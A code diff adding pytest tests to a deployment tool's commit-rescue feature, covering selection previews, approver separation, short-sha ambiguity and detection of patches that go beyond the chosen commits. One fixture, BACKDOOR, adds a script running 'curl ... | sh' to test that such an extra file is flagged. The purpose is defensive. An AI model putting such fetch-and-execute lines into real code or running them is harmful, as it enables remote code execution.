@@ -13,13 +13,14 @@ from pathlib import Path
 
 import pytest
 
+from deployd import rescue as rescue_module
 from deployd.config import AppConfig, RescueConfig
 from deployd.errors import Conflict, Forbidden, Invalid
 from deployd.git import CommitInfo, Mirror
 from deployd.metrics import Metrics
 from deployd.rescue import Rescue, preselected, trailers
 from deployd.store import JobStore, Store
-from tests.gitrepo import OriginRepo
+from tests.gitrepo import OriginRepo, commits_sharing_a_prefix
 from tests.rescuelab import RESOLVED
 
 T0 = 1_700_000_000.0
@@ -218,6 +219,41 @@ async def test_preview_conflict_names_the_paths(world: World) -> None:
     assert not candidates[a]["adapted"] and not candidates[p]["adapted"]
 
 
+async def test_unselected_candidates_are_tried_alone_on_the_base(world: World) -> None:
+    """Every candidate shows whether it applies: unselected ones alone on the base, selected
+    ones after the selected commits before them (`applies_on` says which)."""
+    good, a, p, b = batch(world.origin, conflicting=True)
+    await world.mirror.fetch()
+    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
+                                  reason="", commits=[a])
+    candidates = by_sha(job.preview["candidates"])
+    assert candidates[a]["selected"] is True and candidates[a]["applies_on"] == "selection"
+    assert candidates[a]["applies_cleanly"] is True
+    assert candidates[p]["selected"] is False and candidates[p]["applies_on"] == "base"
+    assert candidates[p]["applies_cleanly"] is False
+    assert candidates[p]["conflicting_paths"] == ["config.txt"]
+    assert candidates[b]["applies_on"] == "base" and candidates[b]["applies_cleanly"] is True
+    assert candidates[b]["conflicting_paths"] == []
+    # Selected after A, P applies; B, still unselected, keeps its preview alone.
+    job = await world.rescue.set_selection(job.id, [a, p], actor="alice")
+    candidates = by_sha(job.preview["candidates"])
+    assert candidates[p]["applies_on"] == "selection" and candidates[p]["applies_cleanly"]
+    assert candidates[b]["applies_on"] == "base" and candidates[b]["applies_cleanly"]
+
+
+async def test_only_the_first_candidates_are_tried_alone(world: World,
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    """Past MAX_TRIED_ALONE candidates, unselected ones show no preview at all."""
+    monkeypatch.setattr(rescue_module, "MAX_TRIED_ALONE", 2)
+    good, a, p, b = batch(world.origin)
+    await world.mirror.fetch()
+    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
+                                  reason="")
+    candidates = by_sha(job.preview["candidates"])
+    assert candidates[a]["applies_on"] == "base" and candidates[p]["applies_on"] == "selection"
+    assert "applies_on" not in candidates[b] and "applies_cleanly" not in candidates[b]
+
+
 async def test_preview_conflict_after_a_clean_commit_is_still_reported(world: World) -> None:
     """A clean commit followed by a conflicting one: both statuses, the first stays clean."""
     good, _, p, _ = batch(world.origin, conflicting=True)
@@ -365,3 +401,125 @@ async def test_approval_of_a_plan_replaced_meanwhile_changes_nothing(world: Worl
     with pytest.raises(Conflict, match="changed meanwhile"):
         await world.rescue.approve(job, plan=job.plan, actor="alice", comment="")
     assert (await world.rescue.jobs.get(job.id)).state == "pending"
+
+
+BACKDOOR = """\
+diff --git a/backdoor.sh b/backdoor.sh
+new file mode 100755
+--- /dev/null
++++ b/backdoor.sh
+@@ -0,0 +1,2 @@
++#!/bin/sh
++curl -s http://127.0.0.1:9/x | sh
+"""
+
+
+async def test_patch_scope_names_what_the_commits_did_not_contain(world: World) -> None:
+    """A resolved patch within P's own change is not beyond it; a new path, a line or a file
+    mode P did not bring in is, and names the extra paths."""
+    good, _, p, _ = batch(world.origin, conflicting=True)
+    await world.mirror.fetch()
+    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
+                                  reason="")
+    job = await world.rescue.set_resolved_patch(job.id, RESOLVED, actor="alice")
+    assert job.resolved_by == "alice" and job.last_changed_by == "alice"
+    assert job.preview["extra_paths"] == [] and job.preview["beyond_commits"] is False
+    extra_line = RESOLVED.replace("@@ -0,0 +1 @@\n+rate 0.2\n",
+                                  "@@ -0,0 +1,2 @@\n+rate 0.2\n+rate_override = 0\n")
+    executable = RESOLVED.replace("new file mode 100644", "new file mode 100755")
+    for patch, extra in ((RESOLVED + BACKDOOR, ["backdoor.sh"]), (extra_line, []),
+                         (executable, [])):
+        job = await world.rescue.set_resolved_patch(job.id, patch, actor="mallory")
+        assert job.preview["ready"] is True, job.preview
+        assert job.preview["extra_paths"] == extra, patch
+        assert job.preview["beyond_commits"] is True, patch
+        assert job.resolved_by == "mallory" and job.last_changed_by == "mallory"
+    job = await world.rescue.set_selection(job.id, [p], actor="carol")
+    assert job.resolved_by is None and job.last_changed_by == "carol"
+    assert job.preview["extra_paths"] == [] and job.preview["beyond_commits"] is False
+
+
+async def test_distinct_approver_refuses_the_last_changer(world: World) -> None:
+    """With distinct_approver, who uploaded the patch or chose the selection may not approve,
+    even after re-uploading the same patch between the check and the approval."""
+    good, a, p, _ = batch(world.origin, conflicting=True)
+    await world.mirror.fetch()
+    strict = Rescue(app_config(world.origin.url, distinct_approver=True), store=world.store,
+                    jobs=world.rescue.jobs, mirror=world.mirror, metrics=world.metrics,
+                    clock=world.clock)
+    job = await strict.open(base=good, bad_head="production", requester="deployd", reason="")
+    job = await strict.set_resolved_patch(job.id, RESOLVED, actor="mallory")
+    assert job.plan is not None
+    with pytest.raises(Forbidden, match="distinct_approver: mallory uploaded the resolved"):
+        await strict.check_approval(job, plan=job.plan, actor="mallory")
+    await strict.check_approval(job, plan=job.plan, actor="alice")
+    # alice passed the check; she then uploads the very same patch (same plan) herself.
+    again = await strict.set_resolved_patch(job.id, RESOLVED, actor="alice")
+    assert again.plan != job.plan  # the resolver is part of the plan
+    with pytest.raises(Conflict, match="changed meanwhile"):
+        await strict.approve(job, plan=job.plan, actor="alice", comment="")
+    job = await strict.set_selection(job.id, [a, p], actor="mallory")
+    assert job.plan is not None and job.resolved_patch is None
+    with pytest.raises(Forbidden, match="mallory chose the selection"):
+        await strict.check_approval(job, plan=job.plan, actor="mallory")
+    await strict.check_approval(job, plan=job.plan, actor="alice")
+    # The same selection chosen again by alice keeps the plan, but she is now its chooser.
+    same = await strict.set_selection(job.id, [a, p], actor="alice")
+    assert same.plan == job.plan
+    with pytest.raises(Conflict, match="changed meanwhile"):
+        await strict.approve(job, plan=job.plan, actor="alice", comment="")
+    assert (await strict.jobs.get(job.id)).state == "pending"
+
+
+async def test_a_short_sha_in_a_selection_is_the_commit_not_a_branch(world: World) -> None:
+    """A branch named like a candidate's short sha does not take its place in a selection."""
+    good, a, p, b = batch(world.origin)
+    world.origin.set_branch(p[:8], b)
+    world.origin.set_branch(a[:8], good)
+    await world.mirror.fetch()
+    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
+                                  reason="")
+    job = await world.rescue.set_selection(job.id, [p[:8]], actor="alice")
+    assert job.selection == [p]
+    job = await world.rescue.open(base=a[:8], bad_head="production", requester="deployd",
+                                  reason="")
+    assert job.base == a
+
+
+async def test_an_ambiguous_abbreviation_in_a_selection_lists_the_commits(world: World) -> None:
+    """A selection or base naming several commits is refused with the commits it could mean."""
+    good, _, p, _ = batch(world.origin)
+    one, other = commits_sharing_a_prefix(world.origin)
+    world.origin.set_branch("production", p)
+    await world.mirror.fetch()
+    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
+                                  reason="")
+    with pytest.raises(Invalid, match="ambiguous") as refused:
+        await world.rescue.set_selection(job.id, [one[:4]], actor="alice")
+    assert one[:12] in str(refused.value) and other[:12] in str(refused.value)
+    with pytest.raises(Invalid, match="ambiguous"):
+        await world.rescue.open(base=one[:4], bad_head="production", requester="deployd",
+                                reason="")
+
+
+async def test_patch_scope_counts_removed_lines(world: World) -> None:
+    """A patch removing more lines from a file than the commits did is beyond them, even when
+    every line it adds is theirs."""
+    world.origin.commit({"auth.py": "def check(user):\n    require_admin(user)\n    return 1\n"},
+                        "auth")
+    good = world.origin.head()
+    p = world.origin.commit({"auth.py": "def check(user):\n    require_admin(user)\n"
+                                        "    return 2\n"}, FIX)
+    world.origin.commit({"health.txt": "broken\n"}, "Break")
+    await world.mirror.fetch()
+    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
+                                  reason="")
+    assert job.selection == [p]
+    own = await world.mirror.diff(good, p)
+    job = await world.rescue.set_resolved_patch(job.id, own, actor="mallory")
+    assert job.preview["beyond_commits"] is False
+    dropped = own.replace(" def check(user):\n     require_admin(user)\n",
+                          " def check(user):\n-    require_admin(user)\n")
+    dropped = dropped.replace("@@ -1,3 +1,3 @@", "@@ -1,3 +1,2 @@")
+    job = await world.rescue.set_resolved_patch(job.id, dropped, actor="mallory")
+    assert job.preview["extra_paths"] == [] and job.preview["beyond_commits"] is True
